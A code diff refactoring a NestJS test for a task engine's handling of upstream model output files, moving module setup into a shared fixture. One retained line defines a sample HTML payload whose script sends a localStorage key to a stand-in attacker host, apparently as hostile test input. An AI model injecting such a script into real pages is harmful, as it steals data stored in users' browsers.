@@ -1,37 +1,23 @@
+import { engineTestingModule } from './engine-testing.fixture';
 import { randomUUID } from 'node:crypto';
 import { mkdtemp, readFile, rm } from 'node:fs/promises';
 import { createServer, Server } from 'node:http';
 import { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { Test, TestingModule } from '@nestjs/testing';
+import { TestingModule } from '@nestjs/testing';
 import { LedgerRepository } from '@genhub/billing-data-access';
-import {
-  ConfigModule,
-  DatabaseConfig,
-  LogConfig,
-  PepperConfig,
-  ProvidersConfig,
-  RedisConfig,
-  SecurityConfig,
-  StorageConfig,
-  TaskConfig,
-} from '@genhub/config';
-import { DatabaseModule } from '@genhub/database';
-import { ObservabilityModule } from '@genhub/observability';
 import {
   AdapterRegistry,
   ModelCatalogue,
   buildProviders,
   parseProvidersFile,
 } from '@genhub/providers';
-import { QueueModule } from '@genhub/queue';
 import { OBJECT_STORAGE, ObjectStorage, StorageModule } from '@genhub/storage';
 import { GetResultUseCase } from '@genhub/tasks-feature';
 import { FakeFal, TINY_PNG } from '@genhub/testing';
 import { RunTaskUseCase } from './run/run-task.use-case';
 import { SubmitTaskUseCase } from './submit/submit-task.use-case';
-import { TaskEngineModule } from './task-engine.module';
 
 const SCRIPT = '<!doctype html><script>fetch("//evil.example/?k="+localStorage.key(0))</script>';
 
@@ -85,33 +71,10 @@ describe('output files of an upstream model (PostgreSQL + Redis + fake fal + loc
       {},
     );
     const built = buildProviders({ ENABLE_SIMULATOR: false, ENABLE_LOCAL_MODELS: false }, file);
-    moduleRef = await Test.createTestingModule({
-      imports: [
-        ConfigModule.forRoot({
-          pieces: [
-            LogConfig,
-            DatabaseConfig,
-            RedisConfig,
-            StorageConfig,
-            SecurityConfig,
-            PepperConfig,
-            TaskConfig,
-            ProvidersConfig,
-          ],
-          env: {
-            ...process.env,
-            LOG_LEVEL: 'silent',
-            ALLOW_PRIVATE_NETWORK_URLS: 'true',
-            STORAGE_DIR: join(dir, 'objects'),
-          },
-        }),
-        ObservabilityModule.forRoot('output-types-test'),
-        DatabaseModule,
-        QueueModule.forRoot(),
-        StorageModule.forRoot(),
-        TaskEngineModule.forGateway(),
-        TaskEngineModule.forWorker(),
-      ],
+    moduleRef = await engineTestingModule({
+      name: 'output-types-test',
+      storage: StorageModule.forRoot(),
+      env: { ALLOW_PRIVATE_NETWORK_URLS: 'true', STORAGE_DIR: join(dir, 'objects') },
     })
       .overrideProvider(ModelCatalogue)
       .useValue(built.catalogue)
